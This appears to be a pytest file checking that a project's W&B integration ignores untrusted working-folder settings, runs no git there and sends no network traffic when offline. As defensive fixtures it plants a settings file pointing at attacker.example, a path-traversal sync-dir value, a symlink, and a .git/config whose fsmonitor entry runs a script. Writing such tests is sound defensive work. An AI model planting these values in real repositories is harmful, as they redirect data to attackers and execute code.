"""W&B takes no settings from a working folder that may come from a stranger, runs no git in it, and
sends nothing to anybody unless the run is online.
"""

import os
import shutil
from pathlib import Path

import pytest

from tests.support.program import python

pytestmark = pytest.mark.usefixtures("elsewhere")

WANDB = """
import sys
from extrap.runs.dashboard import WandB, library
from extrap.runs.dashboard.page import Page

board = WandB()
board.start(Page("s", "rope-1", "direct", "rope", "mixture", 0, 64, ("kv",)))
found = board.run.settings
print(found.base_url, found.entity, found.x_stats_open_metrics_endpoints, found.git_root)
board.finish()
print(library.wandb().setup().settings.base_url)
"""


def test_settings_of_wandb_in_the_working_folder_are_not_believed(tmp_path):
    """`./wandb/settings` chooses a server, makes requests and puts files outside; `.git/config`
    names programs; `.wandb` may be a link.
    """
    outside = tmp_path / "outside"
    outside.mkdir()
    settings = (
        "[default]\nbase_url = http://attacker.example\nentity = attacker\n"
        'x_stats_open_metrics_endpoints = {"a": "http://attacker.example"}\n'
        f"x_sync_dir_suffix = /../../..{outside}/canary\n"
    )
    Path("wandb").mkdir()
    Path("wandb/settings").write_text(settings)
    Path(".wandb").symlink_to(outside)
    program = tmp_path / "program"
    program.write_text(f"#!/bin/sh\nmkdir {outside}/canary\n")
    program.chmod(0o755)
    Path(".git/objects").mkdir(parents=True)
    Path(".git/refs").mkdir()
    Path(".git/HEAD").write_text("ref: refs/heads/main\n")
    Path(".git/config").write_text(f"[core]\nfsmonitor = {program}\nworktree = {os.getcwd()}\n")
    home = Path("home/.config/wandb/settings")
    home.parent.mkdir(parents=True)
    home.write_text("[default]\nbase_url = http://mine.example\n")
    done = python("-c", WANDB, HOME=os.path.abspath("home"))
    assert done.returncode == 0, done.stderr
    assert done.stdout.splitlines() == ["http://mine.example None None None", "http://mine.example"]
    assert [path.name.startswith("offline-run") for path in Path("wandb").glob("off*")] == [True]
    assert list(outside.iterdir()) == []


JOB = ["task=[nll]", "task.nll.documents=4", "train.steps=1", "model.dim=16", "logger=wandb"]


@pytest.mark.turns
def test_an_offline_job_sends_nothing_and_runs_no_git_here(tmp_path, listener):
    """Whatever the environment says of git and of reports; git would wait for the pipe."""
    address, heard = listener
    Path(".git/objects").mkdir(parents=True)
    Path(".git/refs").mkdir()
    Path(".git/HEAD").write_text("ref: refs/heads/main\n")
    os.mkfifo(".git/config")
    log, git = tmp_path / "git.log", tmp_path / "bin" / "git"
    git.parent.mkdir()
    git.write_text(f'#!/bin/sh\npwd >> {log}\nexec {shutil.which("git")} "$@"\n')
    git.chmod(0o755)
    done = python(
        *("-m", "extrap", *JOB),
        PATH=f"{git.parent}:{os.environ['PATH']}",
        HTTP_PROXY=address,
        HTTPS_PROXY=address,
        WANDB_BASE_URL=address,
        WANDB_MODE="online",
        WANDB_DISABLE_GIT="false",
        WANDB_ERROR_REPORTING="true",
    )
    assert done.returncode == 0, done.stderr
    assert heard == []
    assert not log.exists() or str(tmp_path) not in log.read_text().split()
